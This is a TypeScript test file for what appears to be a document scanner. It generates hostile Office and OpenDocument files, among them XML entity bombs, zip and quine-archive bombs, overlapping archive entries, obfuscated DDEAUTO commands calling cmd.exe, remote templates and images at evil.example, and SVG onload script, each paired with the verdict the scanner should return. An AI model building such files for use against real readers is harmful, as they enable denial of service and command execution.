import { constants, deflateRawSync } from 'node:zlib'
import { makeArchive, packFile } from '../support/make-archive'
import { makeDocx, makeOdt } from '../support/make-files'
import { makeQuineArchive } from '../support/make-quine-archive'
import type { FileTrick } from './file-trick'

/** Office documents that are made to use up time or memory, or to be read in two ways. Each is small, and made here. */

const withPart = (name: string, content: string | Buffer) => () => makeDocx([{ name, content }])
const body = 'word/document.xml'
const relationships = 'word/_rels/document.xml.rels'
const hyperlink = '<Relationship Id="a" Type="http://x/hyperlink" Target="http://bcs.example/" TargetMode="External"/>'

/** Ten entities, each ten times the one before. */
const laughs = `<!DOCTYPE a [<!ENTITY a0 "ha">${Array.from(
  { length: 10 },
  (_, index) => `<!ENTITY a${index + 1} "${`&a${index};`.repeat(10)}">`,
).join('')}]><a>&a10;</a>`

/** A part of zeros, packed a million times in a row. */
function makeHuge(): Buffer {
  const flushed = deflateRawSync(Buffer.alloc(9_000_000), { finishFlush: constants.Z_FULL_FLUSH })
  const packed = Buffer.concat([...Array.from({ length: 100 }, () => flushed), Buffer.from('010000ffff', 'hex')])
  return makeDocx([{ name: body, content: '', packed, claimedSize: 900_000_000 }])
}

const exhausting: readonly FileTrick[] = [
  [
    'with relationships that never end, in 400 kB',
    'letter.docx',
    withPart(body, '<Relationship '.repeat(30_000)),
    ['damaged'],
  ],
  [
    'with relationships that never end, in its list of them',
    'letter.docx',
    withPart(relationships, '<Relationship '.repeat(30_000)),
    ['damaged'],
  ],
  [
    'whose attribute is full of relationships',
    'letter.docx',
    withPart(body, `<a b='${'Relationship TargetMode="External" '.repeat(20_000)}'/>`),
    [null],
  ],
  [
    'with 8 000 links',
    'letter.docx',
    withPart(relationships, `<Relationships>${hyperlink.repeat(8_000)}</Relationships>`),
    [null],
  ],
  ['of 94 MB of plain text', 'letter.docx', withPart(body, `<a>${'x'.repeat(94_000_000)}</a>`), ['tooComplex']],
  ['of 900 MB', 'letter.docx', makeHuge, ['tooComplex', 'damaged']],
  [
    'of 9 MB that are packed a thousandfold',
    'letter.docx',
    withPart(body, Buffer.alloc(9_000_000, ' ')),
    ['tooComplex'],
  ],
  [
    'of three parts of 8 MB',
    'table.docx',
    () => makeDocx(['a', 'b', 'c'].map((name) => ({ name: `${name}.xml`, content: numbers(8_000_000) }))),
    ['tooComplex'],
  ],
  [
    'with 200 000 attributes',
    'letter.docx',
    withPart(body, `<a ${Array.from({ length: 200_000 }, (_, index) => `a${index}="${index * 7919}"`).join(' ')}/>`),
    ['tooComplex'],
  ],
  ['with the same attribute 200 times', 'letter.docx', withPart(body, `<a ${'b="c" '.repeat(200)}/>`), ['damaged']],
  [
    'nested 100 000 deep',
    'letter.docx',
    withPart(body, `${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`),
    ['tooComplex'],
  ],
  ['whose entities become a thousand million words', 'letter.docx', withPart(body, laughs), ['active']],
  [
    'whose entities are declared elsewhere',
    'letter.docx',
    withPart(body, '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>'),
    ['active'],
  ],
  ['with references in every word', 'letter.docx', withPart(body, `<a>${'&amp;&#65;'.repeat(90_000)}</a>`), [null]],
  ['with one name of 900 kB', 'letter.docx', withPart(body, `<${'a'.repeat(900_000)}/>`), [null]],
  ['with a comment that never ends', 'letter.docx', withPart(body, `<a><!--${'- '.repeat(400_000)}`), ['damaged']],
  ['with a declaration that never ends', 'letter.docx', withPart(body, `<?xml ${' '.repeat(900_000)}`), ['damaged']],
  ['with 900 kB of closing signs', 'letter.docx', withPart(body, `<a>${']]>'.repeat(300_000)}</a>`), ['damaged']],
  ['with 300 000 texts in one element', 'letter.docx', withPart(body, `<t>${'a<b/>'.repeat(150_000)}</t>`), [null]],
  [
    'with a formula of 900 kB',
    'letter.docx',
    withPart('xl/worksheets/sheet1.xml', `<f>${'A1+'.repeat(300_000)}</f>`),
    ['tooComplex'],
  ],
]

const manyEntries = Array.from({ length: 60_000 }, (_, index) => ({
  name: index.toString(36).padStart(3, '0'),
  content: '',
  isStored: true,
}))

const inner = makeArchive([{ name: 'a.txt', content: 'a' }])
const nested = Array.from({ length: 30 }).reduce<Buffer>(
  (content) => makeArchive([{ name: 'a.zip', content, isStored: true }]),
  inner,
)

/** Two entries of which the second lies within the first. */
function makeOverlapping(): Buffer {
  const hidden = { name: 'word/b.xml', content: '<b/>' }
  const plain = makeDocx()
  const { local } = packFile(hidden)
  const outer = { name: 'word/a.png', content: local, isStored: true }
  const at = plain.readUInt32LE(plain.length - 6) + 30 + outer.name.length
  return makeDocx([outer, { ...hidden, at }])
}

/** The same bytes under many names, as the best of all archive bombs has them. */
function makeShared(): Buffer {
  const kernel = { name: 'word/a.xml', content: `<a>${'x '.repeat(400_000)}</a>` }
  const at = makeDocx().readUInt32LE(makeDocx().length - 6)
  return makeDocx([
    kernel,
    ...Array.from({ length: 500 }, (_, index) => ({ ...kernel, name: `word/${index}.xml`, at })),
  ])
}

function withFarEnd(): Buffer {
  const plain = makeDocx()
  const locator = Buffer.concat([Buffer.from('PK\u0006\u0007', 'latin1'), Buffer.alloc(16, 255)])
  return Buffer.concat([plain.subarray(0, -22), locator, plain.subarray(-22)])
}

const ambiguous: readonly FileTrick[] = [
  ['of 60 000 entries', 'letter.docx', () => makeArchive(manyEntries), ['tooComplex', 'disguised']],
  ['of 2 500 entries', 'letter.docx', () => makeDocx(manyEntries.slice(0, 2_500)), ['tooComplex']],
  [
    'that says it has 65 535 entries',
    'letter.docx',
    () => {
      const plain = makeDocx()
      plain.writeUInt32LE(0xffffffff, plain.length - 14)
      return plain
    },
    ['tooComplex'],
  ],
  [
    'with an archive in an archive, thirty times, as a picture',
    'letter.docx',
    withPart('word/media/a.png', nested),
    ['active'],
  ],
  ['that is an archive in itself, without end', 'letter.docx', () => makeQuineArchive('r.zip'), ['disguised']],
  [
    'that is in itself, without end, as its own text',
    'letter.docx',
    () => makeQuineArchive('word/document.xml'),
    ['disguised'],
  ],
  [
    'with an archive that is in itself, as a picture',
    'letter.docx',
    () => makeDocx([{ name: 'word/media/a.png', content: makeQuineArchive('word/media/a.png') }]),
    ['active'],
  ],
  [
    'with an archive that is in itself, as a text',
    'letter.docx',
    () => makeDocx([{ name: 'word/header1.xml', content: makeQuineArchive('r.zip') }]),
    ['damaged'],
  ],
  [
    'with an older document as a picture',
    'letter.docx',
    withPart('word/media/a.png', Buffer.from('d0cf11e0a1b11ae1', 'hex')),
    ['active'],
  ],
  [
    'with a drawing that runs scripts as a picture',
    'letter.docx',
    withPart('word/media/a.png', '\n<svg onload="a()"/>'),
    ['active'],
  ],
  ['with an entry within another', 'letter.docx', makeOverlapping, ['damaged']],
  ['with one part under 500 names', 'letter.docx', makeShared, ['damaged', 'tooComplex']],
  [
    'that unpacks to less than it says',
    'letter.docx',
    () => makeDocx([{ name: body, content: '<a/>', claimedSize: 5_000 }]),
    ['damaged'],
  ],
  [
    'that unpacks to more than it says',
    'letter.docx',
    () => makeDocx([{ name: body, content: `<a>${'x'.repeat(900_000)}</a>`, claimedSize: 9 }]),
    ['damaged'],
  ],
  [
    'whose entry tells another length than the table',
    'letter.docx',
    () => makeDocx([{ name: body, content: '<a/>', localSize: 9 }]),
    ['damaged'],
  ],
  [
    'whose checksum is another',
    'letter.docx',
    () => makeDocx([{ name: body, content: '<a/>', claimedSum: 7 }]),
    ['damaged'],
  ],
  [
    'with a second name for an entry',
    'letter.docx',
    () => makeDocx([{ name: body, content: '<a/>', extra: Buffer.from('75700600010000000041', 'hex') }]),
    ['damaged'],
  ],
  ['with a table for giants', 'letter.docx', withFarEnd, ['damaged']],
  ['with an encrypted part', 'letter.docx', () => makeDocx([{ name: body, content: '<a/>', bits: 1 }]), ['locked']],
  ['with a password of the usual kind', 'letter.docx', makeLockedDocument, ['locked']],
]

/** The container of the old format, with the name under which the locked document is in it. */
function makeLockedDocument(): Buffer {
  const container = Buffer.alloc(4_096)
  container.write('d0cf11e0a1b11ae1', 'hex')
  container.write('EncryptedPackage', 1_024, 'utf16le')
  return container
}

const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])
const runs = (...texts: string[]) => texts.map((text) => `<w:r><w:instrText>${text}</w:instrText></w:r>`).join('')

const hidden: readonly FileTrick[] = [
  [
    'with a command over several elements',
    'letter.docx',
    withPart(body, `<w:p>${runs(' D', 'DE', 'AUTO c:\\\\cmd.exe')}</w:p>`),
    ['active'],
  ],
  [
    'with a command around a comment',
    'letter.docx',
    withPart(body, '<w:instrText>DD<!-- -->E c:\\\\cmd.exe</w:instrText>'),
    ['active'],
  ],
  [
    'with a command in references',
    'letter.docx',
    withPart(body, '<w:instrText>&#68;&#x44;E c:\\\\cmd.exe</w:instrText>'),
    ['active'],
  ],
  [
    'with a command behind 30 000 blanks',
    'letter.docx',
    withPart(body, `<w:instrText>${' '.repeat(30_000)}DDE cmd</w:instrText>`),
    ['tooComplex'],
  ],
  [
    'with a command in the other width of letters',
    'letter.docx',
    withPart(body, utf16('<w:instrText>DDEAUTO cmd</w:instrText>')),
    ['active'],
  ],
  [
    'in an encoding that hides words',
    'letter.docx',
    withPart(body, '<?xml version="1.0" encoding="UTF-7"?><a/>'),
    ['damaged'],
  ],
  [
    'with a template from elsewhere in other quotation marks',
    'letter.docx',
    withPart(
      'word/_rels/settings.xml.rels',
      "<Relationships><Relationship TargetMode='External' Type='http://x/frame' Target='http://evil.example/'/></Relationships>",
    ),
    ['active'],
  ],
  [
    'with a template from elsewhere under another prefix',
    'letter.docx',
    withPart('word/settings.xml', '<x:attachedTemplate x:id="a"/>'),
    ['active'],
  ],
  [
    'that speaks of DDE and of macros, as a letter may',
    'letter.docx',
    withPart(body, '<w:t>I know DDE , WEBSERVICE() and macroEnabled files.</w:t>'),
    [null],
  ],
]

const hiddenInOpen: readonly FileTrick[] = [
  [
    'with a picture from elsewhere',
    'letter.odt',
    () => makeOdt([{ name: 'styles.xml', content: '<draw:image xlink:href="http://evil.example/a.png"/>' }]),
    ['active'],
  ],
  [
    'with a section from elsewhere',
    'letter.odt',
    () => makeOdt([{ name: 'styles.xml', content: '<text:section-source xlink:href="http://evil.example/"/>' }]),
    ['active'],
  ],
  [
    'with a password',
    'letter.odt',
    () =>
      makeOdt([
        {
          name: 'META-INF/manifest.xml',
          content: '<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>',
        },
        { name: 'styles.xml', content: 'not readable' },
      ]),
    ['locked'],
  ],
  [
    'that says it has no programs',
    'letter.odt',
    () => makeOdt([{ name: 'styles.xml', content: '<office:document><office:scripts/></office:document>' }]),
    [null],
  ],
]

/** A table, which is packed to a tenth. */
function numbers(length: number): string {
  let text = '<a>'
  for (let index = 1; text.length < length; index++) text += `<c r="A${index}"><v>${index % 97}</v></c>`
  return `${text}</a>`
}

export const hostileDocuments: readonly FileTrick[] = [...exhausting, ...ambiguous, ...hidden, ...hiddenInOpen].map(
  ([what, name, make, objections]): FileTrick => [`a document ${what}`, name, make, objections],
)
